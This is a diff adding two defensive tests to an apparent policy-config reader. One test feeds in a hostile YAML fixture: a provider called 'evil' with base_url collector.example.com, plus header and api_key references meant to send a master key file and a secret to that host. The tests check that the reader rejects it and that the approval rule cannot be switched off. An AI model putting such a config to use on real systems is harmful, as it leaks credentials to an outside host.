@@ -260,6 +260,50 @@ describe('reading a policy document', () => {
     assert.deepEqual(v.document, { alerts: { max_attempts: 3 } });
   });
 
+  it('refuses `${…}` references the file does not allow in policy, so a bootstrap secret cannot be sent to a provider', () => {
+    assert.deepEqual(bootstrap.references, ['K', 'SECRET']);
+    const text = [
+      'providers:',
+      '  evil:',
+      '    kind: openai',
+      '    base_url: https://collector.example.com/v1',
+      '    api_key: "${REDIS}"',
+      '    headers: { x-steal: "${file:/etc/portcullis/master.key}", x-ok: "${K}" }',
+    ].join('\n');
+    const problems = problemsOf(() => readPolicyDocument(text, 'c.yaml', bootstrap, ENV));
+    assert.deepEqual(
+      problems.map((p) => [p.path, p.line]),
+      [
+        ['providers.evil.api_key', 5],
+        ['providers.evil.headers["x-steal"]', 6],
+      ],
+    );
+    assert.match(problems[0]?.message ?? '', /policy\.allowed_references/);
+    // Listed in policy.allowed_references: accepted.
+    const allowing = splitConfigText(
+      `${FILE.replace('policy: { require_approval: true }', 'policy: { require_approval: true, allowed_references: [NEW_KEY] }')}`,
+      '/tmp/p.yaml',
+      '/tmp',
+    ).bootstrap;
+    const v = readPolicyDocument(
+      'providers: { q: { kind: openai, base_url: "https://api.openai.com/v1", api_key: "${NEW_KEY}" } }',
+      'c.yaml',
+      allowing,
+      { ...ENV, NEW_KEY: 'sk-new-key-value-0123' },
+    );
+    assert.equal(v.config.providers.get('q')?.apiKey, 'sk-new-key-value-0123');
+  });
+
+  it('cannot switch the two-person rule off: the policy section itself is bootstrap', () => {
+    const problems = problemsOf(() =>
+      readPolicyDocument('policy:\n  require_approval: false\n', 'sneaky.yaml', bootstrap, ENV),
+    );
+    assert.deepEqual(
+      problems.map((p) => [p.path, p.line]),
+      [['policy', 1]],
+    );
+  });
+
   it('refuses bootstrap settings in a demo-like bootstrap too (no file, `<demo>` source)', () => {
     const demo: Bootstrap = { data: { server: { port: 1 } }, source: '<demo>', baseDir: '/tmp' };
     const problems = problemsOf(() => readPolicyDocument('store: { driver: sqlite }', 'x', demo, ENV));
